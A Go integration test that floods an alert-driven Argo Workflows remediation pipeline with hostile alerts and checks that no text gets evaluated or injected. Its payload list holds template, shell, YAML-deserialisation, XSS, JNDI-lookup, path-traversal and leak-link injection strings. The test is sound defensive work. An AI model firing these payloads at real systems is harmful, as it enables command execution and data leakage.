package scenario

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// product is what whoever evaluates a payload of the first kind writes: long
// enough to be in no id, time or base64 by chance.
const product = "9295686391"

// payloads are what a stranger may write into a label.
var payloads = []string{
	"{{=70921*131071}}", "{{= 70921 * 131071 }}", "{{=sprig.mul(70921,131071)}}", "{{=toJson(workflow)}}", "{{={}}}", `{{=sprig.repeat(1000000,"x")}}`,
	"{{workflow.name}}", "{{workflow.uid}}", "{{workflow.parameters.event}}", "{{inputs.parameters.event}}", "{{pod.name}}", "{{item}}",
	"$(echo $((70921*131071)))", "`expr 70921 \\* 131071`", "; echo $((70921*131071))", "$((70921*131071))", "| tee /work/decision.json", "&& exit 0",
	"a: !!python/object/apply:os.system [id]", "x\n---\nkind: Secret", "&a [*a, *a]", "<<: *default", "\"}, \"status\": \"resolved", "null", "1e400",
	"@everyone #1 closes #1", "[x](javascript:alert(1))", "![x](http://10.88.0.1/leak)", "```\n# heading", "<img src=x onerror=alert(1)>", "- [x] done",
	"Amend-Incident: forged-0000000000", "[skip ci]", "../../.github/workflows/x.yml", "%2e%2e%2fetc", "${{ github.token }}", "${jndi:ldap://10.88.0.1/x}",
	"\u202egnp.exe", "\x1b[31mred", strings.Repeat("A", 900),
}

const hostileAlerts = 200

// hostile sends alerts that are written to be executed by something on the
// way. A control Workflow shows that Argo does evaluate the same text when it
// gets it in clear.
func hostile(t *testing.T, w *world) {
	w.controlNamespace(t)
	if got := w.evaluated(t, "{{=70921*131071}}"); got != product {
		t.Errorf("the control Workflow reads %q: upstream no longer evaluates parameters", got)
	}
	w.env.git(t, "fetch", "-q", "origin")
	head := w.env.git(t, "rev-parse", "origin/main")
	var alerts []alert
	for i := range hostileAlerts {
		p := payloads[i%len(payloads)]
		a := alertFor("Hostile", "shop", "reviews", map[string]string{"n": fmt.Sprint(i), "text": p})
		if i%2 == 1 {
			a = alertFor("Hostile", "shop", p, map[string]string{"n": fmt.Sprint(i)})
		}
		a.Annotations = map[string]string{"summary": p, "description": p + "\n" + p}
		alerts = append(alerts, a)
	}
	began := time.Now()
	w.post(t, alerts...)
	seen := w.allEnded(t)
	t.Logf("%d alerts were decided within %.0f s", len(seen), time.Since(began).Seconds())

	opaque := regexp.MustCompile(`^[A-Za-z0-9+/]+={0,2}$`)
	for _, workflow := range seen {
		value := parameter(&workflow)
		if !opaque.MatchString(value) {
			t.Errorf("%s got %q, want one parameter in base64", workflow.GetName(), value)
		}
		if inside := alertOf(value); strings.Contains(inside, product) {
			t.Errorf("%s got an evaluated text: %s", workflow.GetName(), inside)
		}
		whole, err := json.Marshal(workflow.Object)
		must(t, err)
		if strings.Contains(string(whole), product) {
			t.Errorf("Workflow %s holds an evaluated text", workflow.GetName())
		}
	}
	// Entries of the scenario before may still be added to the log.
	w.env.git(t, "fetch", "-q", "origin")
	if changed := w.env.git(t, "diff", "--name-only", head, "origin/main", "--", ".", ":!remediation-log.yaml"); changed != "" {
		t.Errorf("the branch has changes, of %q", changed)
	}
	for _, p := range w.env.pulls(t, "hostile") {
		for _, bad := range []string{product, "\n# heading", "](javascript", "<img", "\u202e", "\x1b", "\nAmend-Incident: forged"} {
			if strings.Contains(p.Title, bad) || strings.Contains(p.Body, bad) {
				t.Errorf("pull request %d holds %q:\n%s\n%s", p.Number, bad, p.Title, p.Body)
			}
		}
	}
	if n := len(w.env.pulls(t, "hostile")); n != 1 {
		t.Errorf("there are %d pull requests, want 1", n)
	}
}

// allEnded waits until every hostile alert has had a Workflow and all have
// ended. Workflows that are deleted after their time are remembered.
func (w *world) allEnded(t *testing.T) map[string]unstructured.Unstructured {
	t.Helper()
	ended := map[string]unstructured.Unstructured{}
	within(t, "every alert has its Workflow", 12*time.Minute, func() error {
		for _, o := range w.workflows(t, "amend-") {
			switch phase := text(&o, "status", "phase"); {
			case !strings.Contains(alertOf(parameter(&o)), `"alertname":"Hostile"`):
			case phase == "Succeeded" || phase == "Failed" || phase == "Error":
				ended[o.GetName()] = o
			}
		}
		if len(ended) < hostileAlerts {
			// Listing hundreds of Workflows again at once would slow them down.
			time.Sleep(5 * time.Second)
			return fmt.Errorf("%d of %d have ended", len(ended), hostileAlerts)
		}
		return nil
	})
	return ended
}

// evaluated runs a Workflow that gets text as a parameter in clear, and
// returns what its step was given.
func (w *world) evaluated(t *testing.T, parameter string) string {
	t.Helper()
	name := "clear-" + strings.ToLower(unique())
	value, err := json.Marshal(parameter)
	must(t, err)
	must(t, w.cluster.Apply(t.Context(), []byte(`
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: `+name+`, namespace: `+controls+`}
spec:
  entrypoint: main
  arguments: {parameters: [{name: secret, value: canary}, {name: event, value: `+string(value)+`}]}
  templates:
  - name: main
    inputs: {parameters: [{name: event}]}
    container: {image: `+w.image("echo:1")+`, command: [/bin/echo], args: ["{{inputs.parameters.event}}"]}
`)))
	var got string
	eventually(t, "the control Workflow", func() error {
		live, err := w.get(t, object(argo, "Workflow", controls, name))
		if err != nil {
			return err
		}
		all, _, _ := unstructured.NestedMap(live.Object, "status", "nodes")
		for _, n := range all {
			arguments, _, _ := unstructured.NestedSlice(n.(map[string]any), "inputs", "parameters")
			if len(arguments) == 1 {
				got = fmt.Sprint(arguments[0].(map[string]any)["value"])
				return nil
			}
		}
		return fmt.Errorf("no node yet: %s", text(live, "status", "message"))
	})
	return got
}
